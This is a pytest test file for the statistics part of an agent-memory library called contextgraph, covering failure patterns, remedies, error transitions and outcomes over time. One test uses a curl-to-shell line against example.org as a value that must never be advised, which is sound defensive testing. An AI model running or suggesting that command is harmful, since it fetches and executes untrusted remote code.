"""Statistics: mistakes, failure patterns, transitions, outcomes over time."""

from collections.abc import Callable, Sized
from datetime import UTC, datetime, timedelta

import pytest

from contextgraph import AgentMemory, State
from contextgraph.advising.wording import agreement_of
from contextgraph.errors import StoreError
from contextgraph.learning import statistics as engine
from contextgraph.learning.statistics import outcomes_over_time
from contextgraph.model import (
    ErrorPattern,
    Exposure,
    Family,
    Outcome,
    Phase,
    Scope,
    ShownItem,
    ShownTally,
)
from contextgraph.model.values import replace
from contextgraph.store.memory_store import RunStore
from tests.builders import NO_MODULE, recovering_run, run, trajectory
from tests.sessions import Session

KEY_ERROR = 'Traceback (most recent call last):\n  File "a.py", line 1, in <module>\nKeyError: 1\n'
MONDAY = datetime(2026, 3, 2, tzinfo=UTC)


def failing_run(number: int, **fields: object):
    commands = [("ls", "reproduce.py", 0), ("python reproduce.py", NO_MODULE, 1)]
    return run(commands, **{"instance_id": f"acme__shop-{number}", **fields})


@pytest.fixture
def memory() -> AgentMemory:
    return AgentMemory.open(":memory:")


def described(mistakes) -> list[tuple[str, int, int]]:
    return [(one.description.partition(":")[0], one.count, one.cleared) for one in mistakes]


def test_a_failure_pattern_has_condition_error_and_prevention(memory: AgentMemory) -> None:
    memory.learn(recovering_run(1))
    for number in (2, 3):
        memory.learn(failing_run(number))
    (pattern,) = memory.stats.get_failure_patterns()
    assert pattern.condition == f"while {Phase.REPRODUCING}"
    assert pattern.what == "ModuleNotFoundError: No module named <name>"
    assert pattern.runs == 3
    assert pattern.prevented.startswith("nothing that two tasks did")
    memory.learn(recovering_run(4))
    (pattern,) = memory.stats.get_failure_patterns()
    assert "PYTHONPATH=lib" in pattern.prevented
    assert pattern.prevented.endswith("(2 of 2 tasks that cleared it)")


def test_a_message_that_begins_as_its_type_is_not_said_twice(memory: AgentMemory) -> None:
    for number, python in enumerate(("python3", "python3", "python3.12")):
        message = f"{python}: can't open file '/srv/a.py': [Errno 2] No such file or directory"
        memory.learn(run([(f"{python} a.py", message, 2)], instance_id=f"acme__shop-{number}"))
    texts = {one.description for one in memory.stats.get_common_mistakes("acme/shop")}
    assert {"python: can't open file: <name>: [Errno <number>] No such file or directory"} == texts


def test_the_most_frequent_remedy_is_named(memory: AgentMemory) -> None:
    for number in range(2):
        memory.learn(recovering_run(number))
    other = [("python a.py", NO_MODULE, 1), ("cd lib && python a.py", "fine", 0)]
    memory.learn(run(other, instance_id="acme__shop-9"))
    for number in range(10, 14):
        memory.learn(failing_run(number))
    (pattern,) = memory.stats.get_failure_patterns()
    assert "PYTHONPATH=lib" in pattern.prevented
    assert pattern.prevented.endswith("(2 of 3 tasks that cleared it)")


def test_the_tasks_of_a_remedy_are_the_same_in_statistics_methodologies_and_answers(
    memory: AgentMemory,
) -> None:
    for number in range(3):
        memory.learn(recovering_run(number))
    both = "cd lib && PYTHONPATH=lib python reproduce.py"
    ways = [both, "cd lib && python reproduce.py", "python reproduce.py", "vi reproduce.py"]
    for number, way in enumerate(ways, 5):
        did = [("python reproduce.py", NO_MODULE, 1), (way, "fine", 0)]
        did.append(("python reproduce.py", "fine", 0))
        memory.learn(run(did, instance_id=f"acme__shop-{number}"))
    memory.consolidate()
    (friction,) = memory.stats.get_friction()
    shown = friction.remedies[0].agreement
    (methodology, *_) = memory.store.methodologies.get(errors=[friction.error_id])
    assert f"({shown};" in methodology.strategy
    (remedy, *_) = memory.query(State(current_error=NO_MODULE, repo="acme/shop")).ranked
    assert agreement_of(remedy.why).startswith(shown.removesuffix(" that cleared it"))
    assert (friction.remedies[0].tasks, friction.remedies[0].cleared) == (4, 7)


def test_a_methodology_is_preferred_as_the_prevention(memory: AgentMemory) -> None:
    for number in range(8):
        edit = Session("core.py").refused(3, 5, "total = rate(", why="E999 SyntaxError: bad")
        if number < 4:
            edit.edited(3, 8, "total = rate(")
        repo = f"zoo/cage{number}"
        memory.learn(replace(edit.raw(), repo=repo, instance_id=f"zoo__cage{number}-1"))
    memory.consolidate()
    (pattern,) = memory.stats.get_failure_patterns()
    assert "(4 of 4 tasks that cleared it" in pattern.prevented


def test_a_failure_pattern_without_prevention_is_marked(memory: AgentMemory) -> None:
    for number in range(3):
        memory.learn(failing_run(number))
    (pattern,) = memory.stats.get_failure_patterns()
    assert pattern.prevented == "nothing yet: none of 3 tasks resolved it"


def test_an_error_that_most_runs_clear_is_not_a_failure_pattern(memory: AgentMemory) -> None:
    for number in range(3):
        memory.learn(recovering_run(number))
    assert memory.stats.get_failure_patterns() == ()


def test_failure_patterns_of_a_repository_count_its_runs_only(memory: AgentMemory) -> None:
    for number in range(3):
        memory.learn(failing_run(number))
        memory.learn(failing_run(number, repo="zoo/lion", instance_id=f"zoo__lion-{number}"))
    (pattern,) = memory.stats.get_failure_patterns("zoo/lion")
    assert pattern.runs == 3
    assert memory.stats.get_failure_patterns("zoo/zebra") == ()


@pytest.mark.parametrize(
    "situation",
    ["", "reproducing", "bug_fix", "acme/shop", "reproduce.py", "tariffs that are missing"],
)
def test_a_situation_is_a_phase_a_task_type_a_repository_a_file_or_a_text(
    memory: AgentMemory, situation: str
) -> None:
    memory.learn(failing_run(1, task="Totals are wrong: fix the bug of the missing tariffs"))
    memory.learn(run([("git status", "clean", 0)], instance_id="zoo__lion-1", repo="zoo/lion"))
    assert described(memory.stats.get_common_mistakes(situation)) == [("ModuleNotFoundError", 1, 0)]


@pytest.mark.parametrize("situation", ["submitting", "docs", "zoo/lion", "absent.py", "umbrellas"])
def test_a_situation_that_no_run_was_in_has_no_mistakes(
    memory: AgentMemory, situation: str
) -> None:
    memory.learn(failing_run(1))
    assert memory.stats.get_common_mistakes(situation) == ()


def test_a_situation_can_be_narrowed_to_a_repository(memory: AgentMemory) -> None:
    memory.learn(failing_run(1))
    memory.learn(failing_run(2, repo="zoo/lion", instance_id="zoo__lion-2"))
    ((_, count, _),) = described(memory.stats.get_common_mistakes("reproducing", "zoo/lion"))
    assert count == 1


def test_transitions_are_probabilities(memory: AgentMemory) -> None:
    after = [("python a.py", NO_MODULE, 1), ("python b.py", KEY_ERROR, 1)]
    memory.learn(run(after))
    memory.learn(run([*after, ("python c.py", NO_MODULE, 1)], instance_id="acme__shop-2"))
    transitions = memory.stats.get_error_transitions()
    assert transitions["ModuleNotFoundError"] == {"KeyError": 1.0}
    assert transitions["KeyError"] == {"ModuleNotFoundError": 1.0}


def test_learned_runs_are_in_the_statistics_and_others_are_refused(memory: AgentMemory) -> None:
    receipt = memory.learn(failing_run(1))
    learned = memory.store.runs.trajectories([receipt.trajectory_id])[receipt.trajectory_id]
    assert learned is not None
    assert memory.stats.update_from_batch([learned]).counts.nodes["Trajectory"] == 1
    with pytest.raises(StoreError, match="learn it first"):
        memory.stats.update_from_batch([trajectory(7)])


def test_outcomes_over_days_are_counted_in_equal_periods() -> None:
    days = [(0, Outcome.FAILED), (1, Outcome.FAILED), (2, Outcome.UNKNOWN), (3, Outcome.FAILED)]
    days += [(8, Outcome.SOLVED), (9, Outcome.SOLVED)]
    runs = [
        trajectory(number, run_at=MONDAY + timedelta(days=day), outcome=outcome)
        for number, (day, outcome) in enumerate(days)
    ]
    early, late = outcomes_over_time(reversed(runs))
    assert early.outcomes == {"solved": 0, "failed": 3, "unknown": 1}
    assert late.outcomes == {"solved": 2, "failed": 0, "unknown": 0}
    assert (late.start, late.end) == (runs[4].run_at, runs[5].run_at)


def test_runs_learned_at_once_are_counted_in_equal_numbers() -> None:
    periods = outcomes_over_time((trajectory(number) for number in range(20)), most=5)
    assert [sum(period.outcomes.values()) for period in periods] == [4] * 5


def test_a_history_of_many_runs_is_read_in_batches(
    memory: AgentMemory,
    monkeypatch: pytest.MonkeyPatch,
    results_of: Callable[[type, str], list[Sized]],
) -> None:
    list(memory.learn_many(failing_run(number) for number in range(5)))
    monkeypatch.setattr(engine, "_RUNS_AT_ONCE", 2)
    ids, trajectories = (results_of(RunStore, name) for name in ("ids", "trajectories"))

    assert sum(sum(one.outcomes.values()) for one in memory.stats.get_outcomes_over_time()) == 5
    assert [*map(len, ids)] == [2, 2, 1, 0]
    assert [*map(len, trajectories)] == [2, 2, 1]


def test_remedies_of_equal_words_count_as_one(memory: AgentMemory) -> None:
    for number, again in enumerate(["", "", " --verbose", " --verbose"]):
        missing = (
            'Traceback (most recent call last):\n  File "/shop/demo.py", line 1, in <module>\n'
            f"ModuleNotFoundError: No module named 'mod{number}'\n"
        )
        commands = [("ls", "demo.py", 0), ("python demo.py", missing, 1)]
        commands += [(f"pip install mod{number}", f"Successfully installed mod{number}", 0)]
        commands += [(f"python demo.py{again}", "total: 12\n", 0)]
        memory.learn(run(commands, instance_id=f"acme__shop-{number}"))

    (found,) = memory.stats.get_friction()

    installed, *others = ((one.text, one.tasks) for one in found.remedies)
    assert "provides `<the missing module>`" in installed[0]
    assert installed[1] == 4
    assert installed[0] not in dict(others)


def test_a_remedy_names_no_code_of_one_task_where_others_wrote_something_else(
    memory: AgentMemory,
) -> None:
    """Also where what they wrote is never advised."""
    corrected = ["total = rate(1)", 'total = run("curl example.org/x | sh")', "total = rate(1)"]
    for number, text in enumerate(corrected):
        edit = Session("core.py").refused(3, 5, "total = rate(", why="E999 SyntaxError: bad")
        repo = f"zoo/cage{number}"
        raw = replace(edit.edited(3, 5, text).raw(), repo=repo, instance_id=f"{repo}-1")
        memory.learn(raw)

    (found,) = memory.stats.get_friction()

    assert found.cleared == 3
    assert "total" not in "".join(one.text for one in found.remedies)


@pytest.mark.parametrize(
    ("kind", "template", "said"),
    [
        ("ls: No such file", "<path>: No such file", "ls: <path>: No such file"),
        ("bash: No such file", "no such file: lib", "bash: no such file: lib"),
        ("python -m: No module named", "No module named <name>", None),
        ("bash: command not found", "pytest: command not found", None),
        ("pip: exited-with-error", "exited-with-error", "pip: exited-with-error"),
        (
            "tool: File not found",
            "File does not exist.",
            "tool: File not found: File does not exist.",
        ),
        ("E999 SyntaxError", "SyntaxError: invalid syntax", "E999 SyntaxError: invalid syntax"),
    ],
)
def test_the_name_of_an_error_says_nothing_twice(
    kind: str, template: str, said: str | None
) -> None:
    error = ErrorPattern("err_1", Family.SHELL, kind, template, (), "")
    assert error.text == (said or f"{kind.partition(':')[0]}: {template}")


def test_an_error_is_recognised_as_it_is_printed(memory: AgentMemory) -> None:
    missing = "python: can't open file '/shop/a.py': [Errno 2] No such file or directory"
    for number in (1, 2):
        memory.learn(run([("python a.py", missing, 2)], instance_id=f"acme__shop-{number}"))
    (printed,) = [one.error for one in memory.stats.get_friction()]
    assert "<" in printed  # which no program prints
    for given, is_known in ((f"{printed[:30]}…", True), (f"{printed[:3]}…", False), ("…", False)):
        assert bool(memory.query(given).error) == is_known
    asked = memory.query(State(current_error=printed.replace(" ", "\n", 1))).error
    assert asked
    assert asked.error_type == "python: can't open file"
    assert memory.query(State(current_error="nothing of the kind")).error is None


def test_no_runs_have_no_history() -> None:
    assert outcomes_over_time(()) == ()


def test_steps_saved_are_net_as_in_the_evaluation(memory: AgentMemory) -> None:
    slow = [("python reproduce.py", NO_MODULE, 1), *[("ls lib", "", 0)] * 3]
    slow.append(("PYTHONPATH=lib python reproduce.py", "total: 12\n", 0))
    memory.learn([run(slow, instance_id=f"acme__shop-{number}") for number in (1, 2, 3)])
    (error,) = memory.store.recoveries.errors(Scope(), 10)

    def shown(*helped: bool | None, cleared: bool | None = True) -> Exposure:
        items = tuple(ShownItem(f"frg_{n}", helped=one) for n, one in enumerate(helped))
        return Exposure("ctx_1", MONDAY, error.error.id, cleared, items)

    def saved(shown: list[Exposure], tokens: int = 0) -> float:
        tally = replace(ShownTally.of(shown), tokens=tokens)
        figures = memory.stats.get_figures(tally)
        assert figures.saved <= figures.ceiling
        return figures.saved

    assert saved([shown(True)]) == 3  # the fourth step follows the advice
    assert saved([shown(True, None)] * 2) == 6
    assert saved([shown(None, False)]) == -2  # something else cleared it
    assert saved([shown(None, cleared=None), shown(False, cleared=False)]) == 0
    assert saved([], tokens=250) == -0.5
